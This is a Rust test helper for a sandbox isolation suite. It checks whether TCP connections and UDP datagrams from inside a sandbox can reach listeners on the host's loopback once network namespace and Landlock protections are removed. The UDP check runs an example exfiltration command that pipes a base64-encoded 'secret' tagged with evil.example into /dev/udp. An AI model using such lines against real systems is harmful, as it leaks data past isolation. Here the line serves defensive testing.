//! Services of the host on its own loopback, and tries to reach them from inside.

use super::leave_out;
use crate::world::{World, shell};
use sandbox::{IsolationMechanism, SandboxSpec};
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

/// Without its own network a sandbox shares the host's. Landlock would then block the connection, so it is left out
/// too.
pub(crate) const OPEN: &[IsolationMechanism] =
    &[IsolationMechanism::NetworkNamespace, IsolationMechanism::Landlock];

/// Whether a connection from inside arrives at a listener of the host. `%s` in the script is its port.
pub(crate) fn tcp_arrives(world: &World, without: &[IsolationMechanism], script: &str) -> bool {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    run(world, without, &script.replace("%s", &port.to_string()));
    listener.accept().is_ok()
}

/// Whether a datagram from inside arrives at a socket of the host.
pub(crate) fn udp_arrives(world: &World, without: &[IsolationMechanism]) -> bool {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let port = socket.local_addr().unwrap().port();
    run(world, without, &format!("exec bash -c 'echo c2VjcmV0.evil.example >/dev/udp/127.0.0.1/{port}'"));
    socket.recv_from(&mut [0; 64]).is_ok()
}

fn run(world: &World, without: &[IsolationMechanism], script: &str) {
    let mut spec: SandboxSpec = world.spec();
    leave_out(&mut spec, without);
    let sandbox = world.start(spec);
    // It fails if the attack is stopped; the other end reports what arrived.
    drop(shell(&sandbox, script));
    sandbox.close().unwrap();
}
